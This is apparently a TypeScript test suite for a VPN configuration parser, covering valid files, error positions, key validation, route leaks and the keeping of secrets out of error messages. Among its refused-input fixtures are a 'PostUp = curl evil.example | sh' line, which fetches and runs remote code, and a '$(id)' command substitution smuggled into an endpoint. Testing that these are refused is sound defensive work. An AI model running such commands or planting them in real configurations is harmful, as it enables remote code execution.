import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { type KeyFacts, parseVpnConfig } from "./parse.ts";
import { MAX_CONFIG_BYTES, VpnConfigError, vpnProblemText } from "./problem.ts";
import { anyVpnConfig } from "./testing/arbitrary.ts";
import { printVpnConfig } from "./testing/print.ts";
import { noFacts, sampleConf, sampleKeys } from "./testing/sample.ts";

const parse = (text: string, facts: KeyFacts = noFacts) => parseVpnConfig(Buffer.from(text), facts);

function problemsOf(text: string | Uint8Array, facts: KeyFacts = noFacts) {
  try {
    parseVpnConfig(Buffer.from(text as string), facts);
    return [];
  } catch (error) {
    if (!(error instanceof VpnConfigError)) throw error;
    return error.problems;
  }
}

/** `LINE:COLUMN kind` of each mistake. */
const found = (text: string | Uint8Array, facts?: KeyFacts): string[] =>
  problemsOf(text, facts).map(({ line, column, kind }) => `${String(line)}:${String(column)} ${kind}`);

const changed = (from: string | RegExp, to: string): string => sampleConf.replace(from, to);
const inserted = (after: string, line: string): string => sampleConf.replace(after, `${after}\n${line}`);
const withPeer = (lines: string): string =>
  `${sampleConf}[Peer]\nPublicKey = ${sampleKeys.shared}\nEndpoint = [2001:db8::7]:443\n${lines}\n`;

describe("a right configuration", () => {
  it("is read as wg-quick reads it", () => {
    const config = parse(sampleConf);
    expect(config.privateKey.reveal()).toBe(sampleKeys.private);
    expect(config).toMatchObject({ dns: ["10.64.0.1"], mtu: null, listenPort: null });
    expect(config.peers).toMatchObject([
      { publicKey: sampleKeys.peer, presharedKey: null, keepalive: 0, endpoint: { host: "198.51.100.7", port: 51820 } },
    ]);
  });

  it("may have a byte order mark, Windows line ends, comments, names in any case and lists over lines", () => {
    const other = changed("Address", "address")
      .replace(", fd00:64::2/128", "\nADDRESS=fd00:64::2/128 # second")
      .replaceAll("\n", "\r\n");
    expect(printVpnConfig(parse(`\ufeff# from the provider\r\n${other}`))).toBe(printVpnConfig(parse(sampleConf)));
  });

  it.each(["0.0.0.0/1, 128.0.0.0/1, ::/1, 8000::/1", "0.0.0.0/0, 10.0.0.0/8, ::/0"])(
    "that names everything in parts has everything: %s",
    (allowed) => {
      expect(printVpnConfig(parse(changed("0.0.0.0/0, ::/0", allowed)))).toBe(printVpnConfig(parse(sampleConf)));
    },
  );

  it("may carry one IP version only", () => {
    expect(found(changed(", fd00:64::2/128", "").replace(", ::/0", ""))).toEqual([]);
    expect(found(changed("10.64.0.2/32, ", "").replace("0.0.0.0/0, ", "").replace("10.64.0.1", "fd00:64::1"))).toEqual(
      [],
    );
  });
});

describe("mistakes", () => {
  const key = "PrivateKey = ";
  it.each([
    ["a command", inserted("[Interface]", "PostUp = curl evil.example | sh"), "2:1 command-refused"],
    ["a command of a peer", inserted("[Peer]", " postdown=x"), "7:2 command-refused"],
    ["SaveConfig", inserted("[Interface]", "SaveConfig = true"), "2:1 setting-refused"],
    ["Table", inserted("[Interface]", "Table = off"), "2:1 setting-refused"],
    ["FwMark", inserted("[Interface]", "FwMark = 51820"), "2:1 setting-refused"],
    ["a key too short", changed(sampleKeys.private, "AAAA"), "2:14 bad-key"],
    ["a key too long", changed(sampleKeys.peer, `A${sampleKeys.peer}`), "7:13 bad-key"],
    ["a key with bits too many", changed("p8Dg=", "p8Dh="), "7:13 bad-key"],
    ["the zero key", changed(sampleKeys.peer, `${"A".repeat(43)}=`), "7:13 bad-key"],
    ["no key", changed(/PrivateKey.*\n/, ""), "1:1 missing-key"],
    ["an empty key", changed(sampleKeys.private, ""), `2:13 bad-key`],
    ["no endpoint", changed(/Endpoint.*\n/, ""), "6:1 missing-key"],
    ["a port out of range", changed(":51820", ":65536"), "9:12 bad-endpoint"],
    ["no port", changed(":51820", ""), "9:12 bad-endpoint"],
    ["IPv6 without brackets", changed("198.51.100.7", "2001:db8::1"), "9:12 bad-endpoint"],
    ["IPv4 in brackets", changed("198.51.100.7", "[198.51.100.7]"), "9:12 bad-endpoint"],
    ["an address out of range", changed("198.51.100.7", "198.51.100.777"), "9:12 bad-endpoint"],
    ["an endpoint with a command in it", changed("198.51.100.7", "$(id)"), "9:12 bad-endpoint"],
    ["a prefix too long", changed("/32", "/33"), "3:11 bad-address"],
    ["an empty part of a list", changed("0.0.0.0/0,", "0.0.0.0/0,,"), "8:14 bad-address"],
    ["a name server by name", changed("10.64.0.1", "dns.example"), "4:7 bad-dns"],
    ["a name server of this computer", changed("10.64.0.1", "127.0.0.1"), "4:7 bad-dns"],
    ["an MTU too small for IPv6", inserted("[Interface]", "MTU = 576"), "2:7 bad-number"],
    ["a number with a sign", inserted("[Interface]", "ListenPort = +1"), "2:14 bad-number"],
    ["a keepalive too long", inserted("[Peer]", "PersistentKeepalive = 65536"), "7:23 bad-number"],
    ["a setting twice", inserted("[Peer]", `PublicKey = ${sampleKeys.peer}`), "8:13 duplicate-key"],
    ["a setting in the other section", inserted("[Peer]", "DNS = 10.64.0.1"), "7:1 unknown-key"],
    ["a second interface", `${sampleConf}[Interface]\n`, "10:1 duplicate-section"],
    ["another section", `${sampleConf}[WebSocket]\nPostUp = x\n`, "10:1 unknown-section"],
    ["a setting before the first section", `${key}x\n${sampleConf}`, "1:1 outside-section"],
    ["no setting", inserted("[Interface]", "wg-quick up"), "2:1 no-setting"],
    ["no peer", changed(/\[Peer\][^]*/, ""), "1:1 missing-section"],
    ["no name server", changed(/DNS.*\n/, ""), "1:1 dns-outside"],
    ["a name server that is blocked", changed(", ::/0", "").replace("10.64.0.1", "fd00:64::1"), "4:7 dns-outside"],
    [
      "the same peer twice",
      withPeer("").replace(sampleKeys.shared, sampleKeys.peer),
      ["10:1 missing-key", "11:13 peer-twice"],
    ],
    ["its own key as peer", changed(sampleKeys.peer, sampleKeys.private), "7:13 own-key-as-peer"],
    ["one network at two peers", withPeer("AllowedIPs = 10.0.0.0/8"), "13:14 addresses-overlap"],
    ["a large file of comments", `#${"x".repeat(1024 * 1024)}\n${sampleConf}`, "1:1 too-large"],
    ["a zero byte", `${sampleConf}\0`, "1:1 not-text"],
    ["a lone carriage return in a line", changed("= 10.64.0.1", "= 10.64.0.1\r1"), "4:7 bad-dns"],
    ["bytes that are no UTF-8", Buffer.from([0x5b, 0xff, 0xfe]), "1:1 not-text"],
    ["an empty file", "", ["1:1 missing-section", "1:1 missing-section"]],
  ])("%s", (_name, text, expected) => {
    expect(found(text)).toEqual([expected].flat());
  });

  it.each([
    ["10.0.0.0/8, ::/0", "0.0.0.0/5, 8.0.0.0/7, 11.0.0.0/8, 12.0.0.0/6 and 4 more"],
    ["0.0.0.0/1, ::/0", "128.0.0.0/1"],
    ["0.0.0.0/0, 2000::/3", "::/3, 4000::/2, 8000::/1"],
  ])("tells what would stay outside of %s", (allowed, about) => {
    const text = changed("0.0.0.0/0, ::/0", allowed);
    expect(problemsOf(text)).toMatchObject([{ kind: "routes-leak", line: 8, column: 14, about }]);
  });

  it("a tunnel without addresses carries nothing", () => {
    const text = changed("10.64.0.2/32, ", "").replace(", ::/0", "");
    expect(problemsOf(text)).toMatchObject([{ kind: "routes-leak", about: "0.0.0.0/0, ::/0" }]);
  });

  it("two peers may not share an IP version", () => {
    const text = withPeer("AllowedIPs = 128.0.0.0/1").replace("0.0.0.0/0", "0.0.0.0/1");
    expect(problemsOf(text)).toMatchObject([{ kind: "routes-split", line: 8, about: "0.0.0.0/0" }]);
  });

  it("keys that this computer knows are found by their owner's word", () => {
    const facts: KeyFacts = { publicKeyOf: () => sampleKeys.peer, isInUse: () => true };
    expect(found(sampleConf, facts)).toEqual(["2:14 key-in-use", "7:13 own-key-as-peer"]);
  });

  it("all of them are told at once, in the order of the file", () => {
    const text = inserted("[Interface]", "PostUp = x").replace("/32", "/99").replace(":51820", ":0");
    expect(found(text)).toEqual(["2:1 command-refused", "4:11 bad-address", "10:12 bad-endpoint"]);
  });

  it("the words name the place, the setting and what was expected", () => {
    const [problem] = problemsOf(changed("0.0.0.0/0", "0.0.0.0/1"));
    expect(problem && vpnProblemText("office.conf", problem)).toBe(
      "office.conf:8:14: AllowedIPs: would stay outside the tunnel: 128.0.0.0/1; expected 0.0.0.0/0, and ::/0 for IPv6",
    );
    const [number] = problemsOf(inserted("[Interface]", "MTU = 1"));
    expect(number && vpnProblemText("-", number)).toBe("-:2:7: MTU: expected a number from 1280 to 9000");
  });
});

/** Lines as they stand in configurations, right and wrong ones, in any order. */
const anyLines = fc
  .array(
    fc.oneof(
      fc.constantFrom(...sampleConf.split("\n"), "[Peer]", "[Interface]", "AllowedIPs = ::/0", "DNS=::", "= ="),
      fc
        .tuple(fc.constantFrom("PrivateKey", "Address", "DNS", "Endpoint", "AllowedIPs", "MTU", "PostUp"), fc.string())
        .map(([name, value]) => `${name} = ${value}`),
      fc.string(),
    ),
    { maxLength: 30 },
  )
  .map((lines) => lines.join("\n"));

describe("any input", () => {
  it("printed and parsed again is the same configuration", () => {
    fc.assert(
      fc.property(anyVpnConfig, (config) => {
        const text = printVpnConfig(config);
        expect(printVpnConfig(parse(text))).toBe(text);
        expect({ ...parse(text), privateKey: 0 }).toEqual({ ...config, privateKey: 0 });
      }),
    );
  });

  it("gives a configuration or the closed error", () => {
    const isClosed = (input: string | Uint8Array): void => void problemsOf(input);
    fc.assert(
      fc.property(fc.oneof(anyLines, fc.uint8Array({ maxLength: 300 }), fc.string({ unit: "binary" })), isClosed),
    );
  });

  it("no error says a secret, wherever it stands", () => {
    const broken = fc.tuple(
      fc.nat(sampleConf.length),
      fc.constantFrom("", "\n", "=", "[", "]", "#", " ", "x"),
      fc.nat(40),
    );
    fc.assert(
      fc.property(fc.array(broken, { minLength: 1, maxLength: 4 }), (edits) => {
        let text = inserted("[Peer]", `PresharedKey = ${sampleKeys.shared}`);
        for (const [at, what, gone] of edits) text = text.slice(0, at) + what + text.slice(at + gone);
        const said = problemsOf(text)
          .map((problem) => vpnProblemText("x.conf", problem))
          .join("\n");
        for (const secret of [sampleKeys.private, sampleKeys.shared]) {
          for (let at = 0; at + 8 <= secret.length; at += 4) expect(said).not.toContain(secret.slice(at, at + 8));
        }
      }),
    );
  });

  it("of the largest size is read at once", () => {
    const many = Array.from({ length: 4000 }, (_, at) => `${String(at >> 8)}.${String(at & 255)}.0.0/17`).join(",");
    const text = changed("0.0.0.0/0", many.slice(0, MAX_CONFIG_BYTES - 1000).replace(/,[^,]*$/, ""));
    const start = performance.now();
    expect(found(text)).toEqual(["8:14 routes-leak"]);
    expect(performance.now() - start).toBeLessThan(2000);
  });
});
